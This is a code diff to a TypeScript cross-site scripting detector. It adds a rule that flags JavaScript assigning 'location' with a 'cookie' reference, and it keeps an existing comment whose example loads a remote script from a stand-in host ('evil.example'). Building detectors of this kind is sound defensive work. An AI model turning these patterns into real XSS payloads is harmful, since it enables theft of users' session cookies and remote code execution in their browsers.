@@ -197,7 +197,7 @@ function jsfuck(s: string): boolean {
 }
 
 export function analyzeJs(s: string): JsFinding | null {
-  if (s.indexOf('(') === -1 && s.indexOf('`') === -1) return null
+  if (s.indexOf('(') === -1 && s.indexOf('`') === -1 && s.indexOf('=') === -1) return null
   if (jsfuck(s)) return { rule: 'xss-js-obfuscation', confidence: 0.9 }
   const ts = tokenize(s)
   const prose = proseIn(ts)
@@ -205,6 +205,7 @@ export function analyzeJs(s: string): JsFinding | null {
   let lines = 0
   for (let i = s.indexOf('\n'); i !== -1 && lines < 3; i = s.indexOf('\n', i + 1)) lines++
   const program = lines >= 2 && ts.length > 30
+  const cookie = s.indexOf('cookie') !== -1
   let best: JsFinding | null = null
   const found = (rule: JsRule, confidence: number) => {
     if (best === null || confidence > best.confidence) best = { rule, confidence }
@@ -246,6 +247,9 @@ export function analyzeJs(s: string): JsFinding | null {
       for (let n = 0; n < 3 && !key.hidden && isPunct(ts[key.end + 1], '['); n++) key = suspiciousKey(ts, key.end + 1)
       const after = ts[key.end + 1]
       if (key.hidden && (callOpen(after) || isPunct(after, '[') || isPunct(after, '='))) found('xss-js-obfuscation', prose ? 0.6 : 0.85)
+    } else if (t.text === 'location' && isPunct(next, '=') && !isPunct(ts[i + 2], '=') && cookie) {
+      // location=…cookie…: the session cookie sent to another site
+      found('xss-js-eval', prose || program ? 0.6 : 0.8)
     } else if ((t.text === 'getScript' || t.text === 'importScripts') && callOpen(next) && ts[i + 2]?.kind === 'str' && /^(?:https?:)?\/\//.test(ts[i + 2]!.text)) {
       // $.getScript('//evil.example/x.js'): fetches and runs a remote script
       found('xss-js-eval', prose || program ? 0.6 : 0.8)
